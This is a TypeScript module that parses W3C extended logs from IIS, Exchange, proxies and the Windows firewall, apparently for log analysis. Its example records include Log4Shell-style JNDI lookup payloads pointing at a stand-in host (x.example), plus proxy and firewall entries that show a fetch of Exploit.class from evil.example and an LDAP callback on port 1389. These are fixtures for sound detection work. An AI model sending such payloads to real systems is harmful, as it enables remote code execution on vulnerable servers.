import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import { columnsOf, Row } from './columns.ts'
import { commaSeparated } from './comma-separated.ts'
import type { LogFormat, ReadRecord } from './format.ts'
import { closingQuote } from './quoted-fields.ts'

const iisFields =
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'
/** IIS by default, as far as all its releases agree: where the directive is not there, as in a log that was cut. */
const iisDefault = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent)'.split(' ')

/**
 * Logs whose `#Fields` directive says what the columns are: of IIS, of proxies, of the Windows firewall. IIS writes `+` for
 * a blank within a value; others put quotes around it.
 */
export const w3cExtended: LogFormat = {
  id: 'w3c-extended',
  summary: 'logs with a `#Fields:` directive, wherever in them it stands: IIS, Exchange, proxies, the Windows firewall',
  definedBy: 'https://www.w3.org/TR/WD-logfile.html',
  witnesses: [' TCP ', ' UDP ', ' tcp ', ' http ', ' https ', ' ssl ', '\t'],
  examples: {
    reads: [
      {
        columns: iisFields,
        record:
          '2021-12-12 04:25:41 10.0.0.4 GET /a.aspx q=1 443 - 203.0.113.9 Mozilla/5.0+(Windows+NT+10.0)+${jndi:ldap://x.example/a} - 200 0 0 15',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /a.aspx?q=1',
        userAgent: 'Mozilla/5.0 (Windows NT 10.0) ${jndi:ldap://x.example/a}',
      },
      {
        record: '2021-12-12 04:25:41 10.0.0.4 GET /a.aspx - 80 - 203.0.113.9 curl/7.79.1 404 0 2 15',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /a.aspx',
        userAgent: 'curl/7.79.1',
      },
      {
        columns:
          '#Fields: date time time-taken c-ip sc-status s-action cs-method cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs(User-Agent)',
        record:
          '2021-12-12 04:25:42 31 10.0.0.7 200 TCP_NC_MISS GET http evil.example 8888 /Exploit.class - "Java/1.8.0_181 (x)"',
        when: '2021-12-12T04:25:42Z',
        from: '10.0.0.7',
        request: 'GET /Exploit.class',
        userAgent: 'Java/1.8.0_181 (x)',
        saw: { is: 'connection', to: null, name: 'evil.example', port: 8888, by: '10.0.0.7', protocol: 'http' },
      },
      {
        columns:
          '#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path',
        record: '2021-12-12 04:25:42 ALLOW TCP 10.0.0.7 203.0.113.9 49713 1389 0 - 0 0 0 - - - SEND',
        when: '2021-12-12T04:25:42Z',
        from: '10.0.0.7',
        saw: { is: 'connection', to: '203.0.113.9', name: null, port: 1389, by: '10.0.0.7', protocol: 'tcp' },
      },
      {
        // Exchange, whose columns have commas between them.
        columns: '#Fields: DateTime,RequestId,UrlHost,UrlStem,ClientIpAddress,UserAgent,Method',
        record:
          '2021-12-12T04:25:41.123Z,a1,mail.example,/owa/,203.0.113.9,"Mozilla/5.0 (a, ""b"") ${jndi:ldap://x.example/a}",GET',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
        request: 'GET /owa/',
        userAgent: 'Mozilla/5.0 (a, "b") ${jndi:ldap://x.example/a}',
      },
      {
        columns: '#Fields: date-time,client-ip,server-ip,event-id,message-subject',
        record: '2021-12-12T04:25:41.123Z,203.0.113.9,10.0.0.4,RECEIVE,${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
      },
    ],
    refuses: [iisFields, '2021-12-12 04:25:41 INFO main GET nothing', '2021-12-12 04:25:41 10.0.0.4 GET'],
  },
  read({ text }, { columns, around }) {
    if (text.startsWith('#')) return null
    const separator = separatorOf(columns ?? '')
    const named = columnsOf(columns, '#Fields:', separator)
    if (named?.includes('x-edge-location') === true) return null
    const rows =
      named === null
        ? withoutDirective(text)
        : (separator === ',' ? [commaSeparated(text)] : splits(text)).filter(({ length }) => length === named.length)
    for (const values of rows) {
      const read = ofRow(named ?? iisDefault, values, (time) => readTime(time, around))
      if (read !== null) return read
    }
    return null
  },
}

function ofRow(
  names: readonly string[],
  values: readonly string[],
  timeOf: (text: string) => ReadRecord['when'],
): ReadRecord | null {
  const row = new Row(names, values)
  const [date, time] = [row.value('date', 'x-date'), row.value('time')]
  const when =
    date === null || time === null
      ? timeOf(row.value('x-timestamp', 'timestamp', 'DateTime', 'date-time', 'TimeStamp') ?? '')
      : timeOf(`${date} ${time}`)
  const stamp = row.value('DateTime', 'date-time', 'TimeStamp')
  if (row.has('DateTime', 'date-time', 'TimeStamp') && !/^\d{4}-\d\d-\d\dT[\d:.]{5,16}Z?$/.test(stamp ?? ''))
    return null
  if (row.has('date') && (when === null || !/^\d{4}[-/]\d\d[-/]\d\d$/.test(date ?? ''))) return null
  const from = addressOf(row.value('c-ip', 'src-ip', 'c-dns', 'ClientIpAddress', 'client-ip', 'original-client-ip'))
  const method = row.value('cs-method', 'Method', 'HttpMethod')
  const stem = row.value('cs-uri-stem', 'cs-uri-path', 'cs-uri', 'c-uri', 'UrlStem')
  const query = row.value('cs-uri-query', 'UrlQuery')
  const path = stem === null ? null : query === null ? stem : `${stem}${query.startsWith('?') ? '' : '?'}${query}`
  return {
    when,
    from,
    request: path === null ? null : method === null ? path : `${method} ${path}`,
    userAgent: row.value('cs(User-Agent)', 'c-agent', 'cs(user-agent)')?.replaceAll('+', ' ') ?? row.value('UserAgent'),
    ...sawOf(row, from),
    fields: values.map((value, index) => ({ name: names[index] ?? null, value })),
  }
}

/** What went through a proxy or a firewall. A `cs-host` alone is what a client of ours wrote in its `Host` header. */
function sawOf(row: Row, by: string | null): Pick<ReadRecord, 'saw'> {
  if (!row.has('dst-ip', 'r-ip', 'r-host', 'cs-uri-scheme', 's-hierarchy', 's-supplier-name')) return {}
  const to = addressOf(row.value('dst-ip', 'r-ip'))
  const name = row.value('r-host', 'cs-host', 's-supplier-name')
  if (to === null && name === null) return {}
  const port = row.port('dst-port', 'r-port', 'cs-uri-port')
  const protocol = row.value('cs-uri-scheme', 'protocol', 'cs-protocol')?.toLowerCase() ?? null
  return { saw: { is: 'connection', to, name, port, by, protocol } }
}

/** Of a line of IIS whose directive was not seen; the columns behind those that are known have no names. */
function withoutDirective(text: string): readonly (readonly string[])[] {
  return /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d [\da-fA-F.:%]{3,60} [A-Z]{3,20} \/\S{0,60000} \S{1,60000} \d{1,5} \S{1,300} [\da-fA-F.:%]{3,60} \S/.test(
    text,
  )
    ? [text.split(' ')]
    : []
}

/** Tabs, the commas of Exchange, or blanks. */
function separatorOf(columns: string): string {
  if (columns.includes('\t')) return '\t'
  return /^#Fields: ?[^\s,]{1,100},[^\s,]/.test(columns) ? ',' : ' '
}

/** By tabs, or by blanks, with quotes and without: a client may write a quote of its own. */
function splits(text: string): readonly (readonly string[])[] {
  if (text.includes('\t')) return [text.split('\t')]
  const plain = text.split(' ')
  return text.includes('"') ? [quoted(text), plain] : [plain]
}

function quoted(text: string): readonly string[] {
  const values: string[] = []
  for (let at = 0; at <= text.length; ) {
    if (text[at] === '"') {
      const end = closingQuote(text, at + 1)
      values.push(text.slice(at + 1, end))
      at = end + 2
    } else {
      const blank = text.indexOf(' ', at)
      const end = blank < 0 ? text.length : blank
      values.push(text.slice(at, end))
      at = end + 1
    }
  }
  return values
}
